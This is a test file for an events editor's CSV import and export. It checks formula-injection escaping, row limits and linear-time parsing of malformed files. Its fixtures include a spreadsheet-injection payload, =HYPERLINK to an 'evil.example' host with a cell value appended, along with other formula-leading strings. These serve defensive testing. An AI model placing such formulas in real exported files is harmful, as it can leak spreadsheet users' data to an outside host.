/** Files of entries that are large, broken or made to run in a spreadsheet. */
import { expect, test } from "vitest";
import { IMPORT_ROWS_MAX } from "../../../manifests/bounds/editor.ts";
import { readCsv } from "../../../manifests/shapes/csvReader.ts";
import { exported, planned } from "../../moving/rows/importWorld.ts";
import { EVENTS, event } from "../../runtime/entries/events.ts";
import { page, worldWith } from "../../runtime/kernel/world.ts";
import { excess } from "../../support/effort.ts";

const FORMULA = '=HYPERLINK("https://evil.example/"&A1)';
const PAGES = {
  home: page("/"),
  gig: event(
    "/gig",
    { start: "2026-03-20", place: FORMULA, tags: ["-1+1", "a"] },
    { title: "@SUM(1)", description: "+1" },
  ),
};

test("no value of a download runs in a spreadsheet, whichever separator that takes", async () => {
  const csv = exported(await worldWith(PAGES, EVENTS));
  for (const separated of [csv, csv.replaceAll('","', '";"')])
    for (const { cells } of readCsv(separated, 10).rows)
      for (const cell of cells.flatMap((one) => one.split(/[;\r\n]/)))
        expect(cell.trim().replace(/^"+/, "")).not.toMatch(/^[=+@|%-]/);
});

test("a title that no spreadsheet may run comes in as it is", async () => {
  const [row] = planned(
    await worldWith(PAGES, EVENTS),
    `title,start,place\n'=1+1,2026-01-01,'${FORMULA.replaceAll('"', "")}\n`,
  );
  expect(row?.edit).toMatchObject({
    do: "create",
    body: { title: "=1+1", values: { place: FORMULA.replaceAll('"', "") } },
  });
});

test("50,000 rows are read to the bound, the rest is counted, and the time grows with the rows alone", async () => {
  const rows = Array.from({ length: 50_000 }, (_, n) => `Gig ${n},2026-01-01,"a, ""b""\n${n}"\n`).join("");
  const { rows: kept, beyond, openAt } = readCsv(`title,start,place\n${rows}`, IMPORT_ROWS_MAX + 1);
  expect([kept.length, beyond, openAt]).toEqual([IMPORT_ROWS_MAX + 1, 50_000 - IMPORT_ROWS_MAX, null]);
  const of = await worldWith(PAGES, EVENTS);
  const fileOf = (n: number): string => `title,start,place\n${`Gig,2026-01-01,"a"\n`.repeat(n)}`;
  expect(planned(of, fileOf(2_000)).filter(({ state }) => state === "new")).toHaveLength(2_000);
});

test.each([
  ["quotation marks without end", `a,b\n${'"x,'.repeat(100_000)}`],
  ["doubled quotation marks", `a,b\n"${'""'.repeat(200_000)}`],
  ["separators alone", `a,b\n${",".repeat(300_000)}x`],
  ["line breaks alone", "\n".repeat(300_000)],
  ["spaces before a mark that never comes", `a;b\n${" ".repeat(300_000)}`],
])("a file of %s is read in the time of its length", async (_, text) => {
  expect(await excess((share) => readCsv(text.slice(0, text.length * share), 10), 40)).toBeUndefined();
});
